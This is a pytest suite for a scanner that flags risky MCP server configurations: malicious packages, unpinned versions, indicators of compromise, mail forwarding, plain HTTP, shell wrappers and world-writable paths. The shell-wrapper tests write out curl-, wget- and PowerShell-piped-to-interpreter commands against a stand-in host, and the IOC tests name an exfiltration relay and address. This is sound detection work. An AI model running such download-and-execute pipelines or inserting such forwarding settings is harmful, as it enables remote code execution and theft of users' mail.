"""Each configuration rule fires on a positive case and stays silent on its near-miss."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest
from judge_support import (
    HOME,
    POSTMARK_MAL,
    MemoryAdvisories,
    Record,
    by_rule,
    host,
    installed,
    judge,
    npm,
    only,
    postmark_intel,
    pypi,
    remote,
    resolved,
    stdio,
)

from distrust.judge import check_servers, load_rules
from distrust.model import Advisory, PackageRef, Severity

# --- DT-SCAN-001 / 002 / 003: advisories --------------------------------------------------------


def test_malicious_pypi_version_found_in_a_uv_tool_environment() -> None:
    adv = Advisory("MAL-2099-1", "Malicious code in mail-mcp (PyPI)", malicious=True)
    intel = MemoryAdvisories([Record(adv, "PyPI", "mail-mcp", frozenset({"0.3.1"}))])
    tool = HOME / ".local/share/uv/tools/mail-mcp"
    server = resolved(
        stdio("mail", "uvx", "mail-mcp==0.3.0"),
        pypi("mail-mcp", "0.3.0"),
        installed(pypi("mail-mcp", "0.3.1"), "uv-tool", tool),
    )
    finding = only(judge(server, intel=intel), "DT-SCAN-001")
    assert "uv tool environment at ~/.local/share/uv/tools/mail-mcp is 0.3.1 (MAL-2099-1)" in finding.detail
    assert "run `uv tool uninstall mail-mcp`" in finding.remediation
    assert finding.package == pypi("mail-mcp", "0.3.1")


def test_package_malicious_in_every_version_says_there_is_no_safe_version() -> None:
    adv = Advisory("MAL-2099-2", "Malicious code in postmark-mcp-server (npm)", malicious=True)
    intel = MemoryAdvisories([Record(adv, "npm", "postmark-mcp-server", None)])
    cache = HOME / ".npm/_npx/abc123/node_modules/postmark-mcp-server"
    server = resolved(
        stdio("pm", "npx", "-y", "postmark-mcp-server"),
        npm("postmark-mcp-server"),
        installed(npm("postmark-mcp-server", "2.0.0"), "npx-cache", cache),
    )
    findings = judge(server, intel=intel)
    # The all-versions finding supersedes per-version and "pin a version" advice.
    assert [f.rule_id for f in findings] == ["DT-SCAN-002"]
    finding = findings[0]
    assert finding.severity is Severity.CRITICAL
    assert finding.title == "postmark-mcp-server is malicious in every version"
    assert finding.remediation.startswith("There is no safe version: remove postmark-mcp-server")
    assert "delete the npx cache entry ~/.npm/_npx/abc123" in finding.remediation
    assert "npx cache at" in finding.detail and finding.advisories == ("MAL-2099-2",)


def test_superseded_rules_return_when_the_superseding_rule_is_disabled() -> None:
    adv = Advisory("MAL-2099-2", "x", malicious=True)
    intel = MemoryAdvisories([Record(adv, "npm", "evil-mcp", None)])
    server = resolved(stdio("e", "npx", "-y", "evil-mcp@1.0.0"), npm("evil-mcp", "1.0.0"))
    assert [f.rule_id for f in check_servers([server], intel, host=host())] == ["DT-SCAN-002"]
    rules = load_rules().without(["DT-SCAN-002"])
    assert [f.rule_id for f in check_servers([server], intel, rules=rules, host=host())] == ["DT-SCAN-001"]


def test_partially_malicious_package_is_not_called_malicious_in_every_version() -> None:
    server = resolved(stdio("postmark", "npx", "-y", "postmark-mcp"), npm("postmark-mcp"))
    findings = judge(server, intel=postmark_intel())
    assert not by_rule(findings, "DT-SCAN-002")
    assert not by_rule(findings, "DT-SCAN-001")  # no version known: nothing to match yet


VULN = Advisory("GHSA-aaaa-bbbb-cccc", "Path traversal in example-mcp", severity="HIGH")
UNFIXED = Advisory("GHSA-dddd-eeee-ffff", "SSRF in example-mcp")


def _vuln_intel() -> MemoryAdvisories:
    return MemoryAdvisories(
        [
            Record(
                VULN, "npm", "example-mcp", frozenset({"1.2.0", "1.2.4", "2.0.0"}), fixed=("1.2.5", "2.0.1")
            ),
            Record(UNFIXED, "npm", "example-mcp", frozenset({"2.0.0"})),
        ]
    )


def test_vulnerable_version_names_the_fixed_release() -> None:
    server = resolved(stdio("ex", "npx", "-y", "example-mcp@1.2.0"), npm("example-mcp", "1.2.0"))
    finding = only(judge(server, intel=_vuln_intel()), "DT-SCAN-003")
    assert finding.severity is Severity.HIGH
    assert finding.advisories == ("GHSA-aaaa-bbbb-cccc",)
    assert finding.remediation == "Upgrade example-mcp to 1.2.5 or later."
    assert not by_rule(judge(server, intel=_vuln_intel()), "DT-SCAN-001")


def test_vulnerable_version_without_a_fix_says_so() -> None:
    server = resolved(stdio("ex", "npx", "-y", "example-mcp@2.0.0"), npm("example-mcp", "2.0.0"))
    finding = only(judge(server, intel=_vuln_intel()), "DT-SCAN-003")
    assert finding.advisories == ("GHSA-aaaa-bbbb-cccc", "GHSA-dddd-eeee-ffff")
    assert finding.remediation.startswith(
        "Upgrade example-mcp to 2.0.1 or later; no fixed release exists for"
    )
    assert "GHSA-dddd-eeee-ffff" in finding.remediation


def test_fixed_version_is_quiet() -> None:
    server = resolved(stdio("ex", "npx", "-y", "example-mcp@1.2.5"), npm("example-mcp", "1.2.5"))
    assert judge(server, intel=_vuln_intel()) == ()


# --- DT-SCAN-004 floating version ----------------------------------------------------------------


def test_floating_without_advisories_is_medium_and_offers_a_clean_installed_version() -> None:
    server = resolved(
        stdio("fetch", "uvx", "mcp-server-fetch"),
        pypi("mcp-server-fetch"),
        installed(pypi("mcp-server-fetch", "2025.4.7"), "uv-tool", HOME / ".local/share/uv/tools/x"),
    )
    finding = only(judge(server), "DT-SCAN-004")
    assert finding.severity is Severity.MEDIUM
    assert "names no version of mcp-server-fetch" in finding.detail
    assert "mcp-server-fetch==2025.4.7" in finding.remediation


def test_floating_range_is_reported_as_a_range() -> None:
    server = resolved(stdio("ex", "npx", "-y", "example-mcp@^1.0.0"), npm("example-mcp", None, spec="^1.0.0"))
    finding = only(judge(server), "DT-SCAN-004")
    assert "asks for example-mcp ^1.0.0, a range" in finding.detail
    assert "example-mcp@<reviewed version>" in finding.remediation


def test_pinned_package_is_not_floating() -> None:
    spec = stdio("fs", "npx", "-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/srv/notes")
    server = resolved(spec, npm("@modelcontextprotocol/server-filesystem", "2025.8.21"))
    assert judge(server) == ()


# --- DT-SCAN-005 docker ---------------------------------------------------------------------------


@pytest.mark.parametrize(("version", "shown"), [("latest", "tag latest"), (None, "no tag")])
def test_docker_image_by_tag(version: str | None, shown: str) -> None:
    ref = PackageRef("docker", "mcp/postgres", version, pinned=False)
    server = resolved(stdio("pg", "docker", "run", "-i", "--rm", "mcp/postgres"), ref)
    finding = only(judge(server), "DT-SCAN-005")
    assert finding.severity is Severity.MEDIUM
    assert shown in finding.detail
    assert "mcp/postgres@sha256:" in finding.remediation


def test_docker_image_by_digest_is_quiet() -> None:
    ref = PackageRef("docker", "mcp/postgres", "sha256:" + "0" * 64, pinned=True)
    assert judge(resolved(stdio("pg", "docker", "run", "mcp/postgres@sha256:" + "0" * 64), ref)) == ()


# --- DT-SCAN-006 indicators of compromise ---------------------------------------------------------


def test_ioc_in_env_url_and_args_is_one_critical_finding() -> None:
    spec = stdio(
        "mail",
        "npx",
        "-y",
        "github:phanpak/mail-tools",
        "--relay",
        "https://mx.giftshop.club/send",
        env={"ARCHIVE_ADDRESS": "phan@giftshop.club"},
    )
    findings = judge(resolved(spec, None), intel=postmark_intel())
    ioc = only(findings, "DT-SCAN-006")
    assert ioc.severity is Severity.CRITICAL
    assert ioc.advisories == ("MAL-2025-47604",)
    assert "env ARCHIVE_ADDRESS contains email phan@giftshop.club" in ioc.detail
    assert "args[1] contains account phanpak" in ioc.detail
    assert "args[3] contains domain giftshop.club" in ioc.detail
    assert "env ARCHIVE_ADDRESS contains domain" not in ioc.detail  # the email already says it
    assert "phan@giftshop.club" in ioc.remediation


@pytest.mark.parametrize(
    "value", ["notgiftshop.club", "giftshop.clubhouse.example", "phanpakistan", "me@shop.club"]
)
def test_ioc_lookalikes_are_not_matches(value: str) -> None:
    spec = stdio("x", "node", "server.js", value)
    assert not by_rule(judge(resolved(spec, None), intel=postmark_intel()), "DT-SCAN-006")


# --- DT-SCAN-008 mail forwarding -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "env", "expected"),
    [
        ((), {"POSTMARK_BCC": "audit@corp.example"}, "env POSTMARK_BCC names a copy/forward parameter"),
        (("--forward-to", "ops@corp.example"), {}, "args[3] (--forward-to) names a copy/forward parameter"),
        (("--cc=boss@corp.example",), {}, "args[2] (--cc) names a copy/forward parameter"),
        (("--auto-bcc",), {}, "args[2] names a copy/forward parameter"),
        (("collector@corp.example",), {}, "args[2] hands the server the address collector@corp.example"),
        ((), {"NOTIFY": "@corp.example"}, "env NOTIFY hands the server the address @corp.example"),
    ],
)
def test_mail_forwarding_parameters(args: tuple[str, ...], env: dict[str, str], expected: str) -> None:
    spec = stdio("mail", "npx", "-y", "mail-mcp@1.0.0", *args, env=env)
    finding = only(judge(resolved(spec, npm("mail-mcp", "1.0.0"))), "DT-SCAN-008")
    assert finding.severity is Severity.HIGH
    assert expected in finding.detail


@pytest.mark.parametrize(
    ("args", "env"),
    [
        ((), {"DEFAULT_SENDER_EMAIL": "alice@example.com", "POSTMARK_FROM": "alice@example.com"}),
        (("--from", "alice@example.com"), {}),
        ((), {"ENABLE_BCC": "false"}),
        (("git@github.com:org/repo.git", "postmark-mcp@1.0.16", "server@2025.8.21"), {}),
        (("https://alice@example.com/path",), {}),
    ],
)
def test_mail_near_misses(args: tuple[str, ...], env: dict[str, str]) -> None:
    spec = stdio("mail", "npx", "-y", "mail-mcp@1.0.0", *args, env=env)
    assert not by_rule(judge(resolved(spec, npm("mail-mcp", "1.0.0"))), "DT-SCAN-008")


# --- DT-SCAN-009 plain http --------------------------------------------------------------------------


def test_plain_http_remote_is_high() -> None:
    finding = only(judge(resolved(remote("crm", "http://mcp.crm.example.com/sse"), None)), "DT-SCAN-009")
    assert finding.severity is Severity.HIGH
    assert "mcp.crm.example.com unencrypted" in finding.detail


def test_plain_http_through_mcp_remote_bridge() -> None:
    spec = stdio("crm", "npx", "-y", "mcp-remote@0.1.29", "http://10.0.0.5:3000/mcp")
    finding = only(judge(resolved(spec, npm("mcp-remote", "0.1.29"))), "DT-SCAN-009")
    assert "args[2]" in finding.detail


@pytest.mark.parametrize(
    "url",
    [
        "https://mcp.crm.example.com/sse",
        "http://127.0.0.1:8080/mcp",
        "http://localhost:3000/sse",
        "http://[::1]:9000/mcp",
        "http://api.localhost/mcp",
    ],
)
def test_https_and_loopback_are_fine(url: str) -> None:
    assert judge(resolved(remote("crm", url), None)) == ()


def test_http_argument_of_a_non_bridge_server_is_not_a_remote_endpoint() -> None:
    spec = stdio(
        "fetch", "uvx", "mcp-server-fetch==2025.4.7", "--proxy-url", "http://proxy.corp.example:3128"
    )
    assert judge(resolved(spec, pypi("mcp-server-fetch", "2025.4.7"))) == ()


# --- DT-SCAN-010 shell wrappers ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "args", "expected"),
    [
        ("sh", ("-c", "npx -y some-mcp"), "a shell running a command string"),
        ("/bin/bash", ("-lc", "source ~/.nvm/nvm.sh && npx -y some-mcp"), "a shell running a command string"),
        ("cmd", ("/c", "npx", "-y", "some-mcp"), "cmd.exe running a command string"),
        ("C:\\Windows\\System32\\cmd.exe", ("/C", "npx some-mcp"), "cmd.exe running a command string"),
        ("python3", ("-c", "import mcp_x; mcp_x.main()"), "Python running inline code"),
        ("node", ("-e", "require('x').start()"), "Node.js running inline code"),
        ("pwsh", ("-Command", "iwr https://x.example/i.ps1 | iex"), "Invoke-Expression"),
        ("bash", ("-c", "curl -fsSL https://x.example/install.sh | bash"), "pipes it into an interpreter"),
        ("sh", ("-c", "wget -O- https://x.example/i.sh | sh"), "pipes it into an interpreter"),
        ("bash", ("-c", "bash <(curl -s https://x.example/i.sh)"), "<(...)"),
    ],
)
def test_shell_wrappers_and_download_execute(command: str, args: tuple[str, ...], expected: str) -> None:
    finding = only(judge(resolved(stdio("w", command, *args), None)), "DT-SCAN-010")
    assert finding.severity is Severity.HIGH
    assert expected in finding.detail


def test_wrapper_and_pipeline_aggregate_into_one_finding() -> None:
    spec = stdio("w", "bash", "-c", "curl -fsSL https://x.example/i.sh | bash")
    finding = only(judge(resolved(spec, None)), "DT-SCAN-010")
    assert "shell running a command string" in finding.detail and "pipes it into" in finding.detail
    assert len(finding.evidence) == 1


@pytest.mark.parametrize(
    ("command", "args"),
    [
        ("node", ("/opt/mcp/server.js",)),
        ("python", ("-m", "mcp_server_git")),
        ("uvx", ("mcp-server-git==1.0",)),
        ("npx", ("-y", "cowsay@1.0.0", "-c")),
        ("bash", ("/opt/mcp/start.sh",)),
    ],
)
def test_direct_commands_are_not_wrappers(command: str, args: tuple[str, ...]) -> None:
    assert not by_rule(judge(resolved(stdio("d", command, *args), None)), "DT-SCAN-010")


# --- DT-SCAN-011 world-writable paths ----------------------------------------------------------------


def _script(directory: Path, mode: int = 0o755) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    script = directory / "server.js"
    script.write_text("// fixture: never executed\n", encoding="utf-8")
    os.chmod(script, mode)
    return script


def test_script_in_shared_tmp_is_flagged(tmp_path: Path) -> None:
    script = _script(tmp_path / "mcp")  # pytest's tmp_path lives under /tmp
    finding = only(judge(resolved(stdio("t", "node", str(script)), None)), "DT-SCAN-011")
    assert finding.severity is Severity.HIGH
    assert "inside the shared temporary directory /tmp" in finding.detail


@pytest.mark.parametrize(
    "args",
    [
        ("-y", "{dir}"),
        ("--no-warnings", "-r", "{dir}/server.js", "/opt/server.js"),
        ("-u", "{dir}/server.js"),
    ],
)
def test_code_given_after_options_is_found(tmp_path: Path, args: tuple[str, ...]) -> None:
    script = _script(tmp_path / "pkg")
    command = "npx" if args[0] == "-y" else "node" if args[0] == "--no-warnings" else "python3"
    spec = stdio("o", command, *(a.format(dir=script.parent) for a in args))
    assert by_rule(judge(resolved(spec, None)), "DT-SCAN-011")


def test_world_writable_directory_without_sticky_bit(tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    script = _script(shared)
    os.chmod(shared, 0o777)
    finding = only(judge(resolved(stdio("t", "node", str(script)), None), shared_temp=False), "DT-SCAN-011")
    assert f"directory {shared} is world-writable without the sticky bit" in finding.detail


def test_world_writable_file(tmp_path: Path) -> None:
    script = _script(tmp_path / "private", mode=0o777)
    os.chmod(script, 0o777)  # umask may have cleared o+w
    finding = only(judge(resolved(stdio("t", str(script)), None), shared_temp=False), "DT-SCAN-011")
    assert "itself is world-writable (mode 777)" in finding.detail


def test_uv_directory_flag_is_checked(tmp_path: Path) -> None:
    project = tmp_path / "proj"
    project.mkdir()
    os.chmod(project, 0o777)
    spec = stdio("u", "uv", "--directory", str(project / "sub"), "run", "server.py")
    (project / "sub").mkdir()
    finding = only(judge(resolved(spec, None), shared_temp=False), "DT-SCAN-011")
    assert "args[1]" in finding.detail


def test_private_directory_and_sticky_dir_with_own_file_are_fine(tmp_path: Path) -> None:
    private = _script(tmp_path / "private")
    sticky = tmp_path / "sticky"
    own = _script(sticky)
    os.chmod(sticky, 0o777 | stat.S_ISVTX)
    servers = [resolved(stdio("p", "node", str(private)), None), resolved(stdio("s", "node", str(own)), None)]
    assert not by_rule(judge(*servers, shared_temp=False), "DT-SCAN-011")


def test_relative_script_resolves_against_cwd_only(tmp_path: Path) -> None:
    _script(tmp_path / "app")
    with_cwd = resolved(stdio("r", "node", "server.js", cwd=str(tmp_path / "app")), None)
    without_cwd = resolved(stdio("r2", "node", "server.js"), None)
    findings = judge(with_cwd, without_cwd)
    assert [f.server.name for f in by_rule(findings, "DT-SCAN-011") if f.server] == ["r"]


def test_missing_path_and_system_binary_are_quiet() -> None:
    servers = [
        resolved(stdio("m", "node", "/nonexistent/dir/server.js"), None),
        resolved(stdio("n", "/usr/bin/env", "true"), None),
    ]
    assert not by_rule(judge(*servers), "DT-SCAN-011")


# --- DT-SCAN-012 unresolved ------------------------------------------------------------------------


def test_unresolved_stdio_server_is_low_and_carries_notes() -> None:
    server = resolved(
        stdio("custom", "/opt/tools/mcp-launcher", "--serve"), None, notes=("unknown launcher",)
    )
    finding = only(judge(server), "DT-SCAN-012")
    assert finding.severity is Severity.LOW
    assert "(unknown launcher)" in finding.detail
    assert "`/opt/tools/mcp-launcher --serve`" in finding.remediation


def test_resolved_and_remote_servers_are_not_unresolved() -> None:
    servers = [
        resolved(remote("r", "https://mcp.example.com/mcp"), None),
        resolved(stdio("p", "npx", "-y", "x@1.0.0"), npm("x", "1.0.0")),
    ]
    assert judge(*servers) == ()


def test_postmark_advisory_fixture_is_the_real_id() -> None:
    assert POSTMARK_MAL.id == "MAL-2025-47604" and POSTMARK_MAL.malicious
